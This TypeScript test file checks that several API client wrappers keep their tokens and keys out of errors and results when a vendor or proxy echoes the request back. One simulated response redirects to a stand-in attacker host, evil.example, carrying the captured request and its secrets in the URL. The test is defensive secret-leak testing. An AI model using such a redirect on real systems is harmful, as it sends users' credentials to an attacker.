/**
 * A vendor, or a proxy before the backend, that repeats the whole request in every part of its refusal doesn't make a client repeat
 * its key: no error or result of a client contains what was sent.
 */
import { beforeAll, expect, test } from "vitest";
import * as z from "zod";
import { createFunctionCall } from "~/backend/call-function";
import { openProject } from "~/backend/connect";
import { requestAuth } from "~/backend/request-auth";
import { runQuery } from "~/backend/run-query";
import { createSupabasePeople } from "~/backend/stores/supabase-people.server";
import { mapKeys } from "~/platform/map-values";
import "../../../local/backend/storage/web-socket-name";
import { createGoogleDrive, DRIVE_SCOPE } from "../../../functions/clients/google-drive";
import { createGoogleSheets } from "../../../functions/clients/google-sheets";
import { createGoogleToken, type ServiceAccount } from "../../../functions/clients/google-token";
import { createTwilio } from "../../../functions/clients/twilio";
import { makeAccount } from "../../../local/vendors/google-account";

const TOKEN = "ya29.a-token-of-google";
const SECRET_KEY = "sb_secret_of_the_backend";
const TWILIO = { accountSid: `AC${"0".repeat(32)}`, authToken: "0123456789abcdef0123456789abcdef" };
const ID = "1AbC_dEf-GhIjKlMnOpQrStUvWxYz0123";

type Refusal = (heard: string) => Response;

const headers = { "Content-Type": "application/json", "Retry-After": "600" };
const answerJson = (status: number, body: object) => Response.json(body, { status, headers });
const repeatIn = (fields: string, heard: string) => mapKeys(fields.split(" "), () => heard);
const makeGoogleError = (heard: string) => {
  const errors = [repeatIn("domain reason message location", heard)];
  return { ...repeatIn("code message status", heard), errors };
};
const PLAIN = "error error_description error_code code message msg details hint more_info";
const inPlainWords = (heard: string) => repeatIn(PLAIN, heard);

/** Responses that repeat `heard` in every field. */
const REFUSALS: Readonly<Record<string, Refusal>> = {
  "in Google's form": (heard) => answerJson(403, { error: makeGoogleError(heard) }),
  "as a sign-in that ran out": (heard) => answerJson(401, { error: makeGoogleError(heard) }),
  "in plain words": (heard) => answerJson(400, inPlainWords(heard)),
  "as an outage in plain words": (heard) => answerJson(503, inPlainWords(heard)),
  "as a page": (heard) => new Response(`<h1>${heard}</h1>`, { status: 502 }),
  "by sending elsewhere": (heard) => Response.redirect(`https://evil.example/?${encodeURIComponent(heard)}`),
  "with half an answer": (heard) => new Response(`{"values": [["${heard}"`, { headers }),
  "with an answer of another kind": (heard) => answerJson(200, [heard]),
};

let account: ServiceAccount;
beforeAll(async () => {
  account = await makeAccount();
});

const heard: string[] = [];
let refuse: Refusal;

const send: typeof fetch = async (input, init) => {
  const request = new Request(input, init);
  const fields = [...request.headers].map(([name, value]) => `${name}: ${value}`);
  const all = [`${request.method} ${request.url}`, ...fields, await request.text()].join(" ");
  heard.push(all);
  return refuse(all);
};

const google = { token: { get: async () => TOKEN, forget: () => undefined }, fetch: send };
const drive = () => createGoogleDrive({ apiUrl: "https://drive.example", folderId: ID, ...google });
const NUMBERS = { from: "+15005550006", to: "+14075550142" };
const twilio = () => createTwilio({ apiUrl: "https://twilio.example", ...TWILIO, ...NUMBERS, fetch: send });
const backend = openProject("http://backend.example", SECRET_KEY, send);

async function readSheet(): Promise<void> {
  const sheet = { sheetsUrl: "https://sheets.example", sheetId: ID, accountEmail: account.client_email };
  for await (const _ of createGoogleSheets({ ...sheet, ...google }).readRows());
}

const getToken = () =>
  createGoogleToken({ account, tokenUrl: "https://token.example", scopes: [DRIVE_SCOPE], fetch: send }).get();
const query = () =>
  runQuery("leads", (signal) => backend.client().from("inventory").select("id").abortSignal(signal), {
    timeoutMs: 1000,
    maxAttempts: 1,
  });
const findOwnAccount = () =>
  requestAuth(
    { url: backend.url, publishableKey: "sb_publishable", fetch: send },
    { method: "GET", path: "/user", accessToken: "a-session-of-ana", answer: z.object({ id: z.string() }) },
  );
const countLeads = () => createFunctionCall(backend.client, 1000)("count_leads", {}, z.never());
const createAccount = () =>
  createSupabasePeople(backend).createAccount("ana@example.com", "three small boats");
const BASIC = btoa(`${TWILIO.accountSid}:${TWILIO.authToken}`);

/** Each with the secret that it sends. */
const CALLS: Readonly<Record<string, readonly [secret: string, call: () => Promise<unknown>]>> = {
  "Google's token": ["assertion=eyJ", getToken],
  "the sheet": [TOKEN, readSheet],
  "Drive's folder": [TOKEN, () => drive().checkFolder()],
  "Drive's search": [TOKEN, () => drive().findFolder("1HGCR2F39EA147260")],
  "Drive's list": [TOKEN, () => drive().listPictures(ID)],
  "Drive's file": [TOKEN, () => drive().getFile(ID)],
  "a text": [BASIC, () => twilio().sendMessage("Ana")],
  "a text's status": [BASIC, () => twilio().fetchMessage(`SM${"0".repeat(32)}`)],
  "a database function": [SECRET_KEY, countLeads],
  "a query": [SECRET_KEY, query],
  "Auth's administration": [SECRET_KEY, createAccount],
  "a session's own request": ["Bearer a-session-of-ana", findOwnAccount],
};

/** What a log, a record, or a page may repeat of an outcome. A cause is never logged. */
const toldBy = (outcome: unknown) =>
  outcome instanceof Error
    ? JSON.stringify({ ...outcome, message: outcome.message, name: outcome.name, cause: null })
    : JSON.stringify(outcome);

test.each(Object.entries(CALLS))("%s, refused in any way, keeps its secret", async (_, [secret, call]) => {
  for (const [how, refusal] of Object.entries(REFUSALS)) {
    refuse = refusal;
    heard.length = 0;
    const outcome = await call().catch((error: unknown) => error);
    expect([how, heard.join()]).toEqual([how, expect.stringContaining(secret)]);
    const told = toldBy(outcome) ?? "";
    expect([how, told]).toEqual([how, expect.not.stringContaining(secret)]);
    expect([how, told]).toEqual([how, expect.not.stringContaining("evil.example")]);
  }
});
